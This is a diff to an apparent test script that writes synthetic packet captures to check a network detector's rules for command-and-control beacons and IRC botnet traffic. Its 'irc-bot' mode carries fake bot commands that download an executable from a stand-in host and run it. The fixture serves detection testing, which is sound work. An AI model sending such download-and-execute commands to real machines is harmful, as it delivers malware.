@@ -13,6 +13,10 @@ loopback  127.0.0.1 talks to itself: 18 connections to port 6379, one a second, 
           to port 6633 held 120 s with a message both ways every 10 s (a local database and an
           SDN controller): no cnc_beacon
 remote    the same two shapes from 10.0.0.5 to 203.0.113.7: cnc_beacon
+irc-chat  10.0.0.5 chats on IRC at 198.51.100.6:6667 (NICK, USER, JOIN, messages, one
+          addressed "@nick ..."): chat, no irc_cnc
+irc-bot   the same session where the channel gives ".download http://..." and ".execute":
+          irc_cnc
 """
 import random, struct, sys
 
@@ -117,6 +121,22 @@ def shapes(a, b):
     c.close(150.0)
 
 
+def irc(cmds):
+    c = Conn('10.0.0.5', '198.51.100.6', 41000, 6667, 1.0)
+    c.send(1.1, b'NICK walrus\r\nUSER walrus 0 * :Walrus\r\n')
+    c.reply(1.2, b':irc.example.net 001 walrus :Welcome to the network walrus\r\n')
+    c.send(2.0, b'JOIN #tea\r\n')
+    c.reply(2.1, b':walrus!w@10.0.0.5 JOIN :#tea\r\n:irc.example.net 353 walrus = #tea :walrus @carpenter oyster\r\n')
+    lines = [b':carpenter!c@h PRIVMSG #tea :@walrus the time has come to talk of many things\r\n',
+             b':oyster!o@h PRIVMSG #tea :of shoes and ships and sealing wax\r\n'] + cmds
+    t = 5.0
+    for l in lines:
+        c.reply(t, l)
+        c.send(t + 2, b'PRIVMSG #tea :and cabbages and kings\r\n')
+        t += 10
+    c.close(t)
+
+
 if mode == 'zeros':
     fetch(b'\0' * 40000)
 elif mode == 'noise':
@@ -129,5 +149,10 @@ elif mode == 'loopback':
     shapes('127.0.0.1', '127.0.0.1')
 elif mode == 'remote':
     shapes('10.0.0.5', '203.0.113.7')
+elif mode == 'irc-chat':
+    irc([])
+elif mode == 'irc-bot':
+    irc([b':carpenter!c@h PRIVMSG #tea :.download http://198.51.100.7/a.exe C:\\a.exe 1\r\n',
+         b':carpenter!c@h PRIVMSG #tea :.execute C:\\a.exe\r\n'])
 else:
     sys.exit('fa_pcap.py: unknown mode ' + mode)
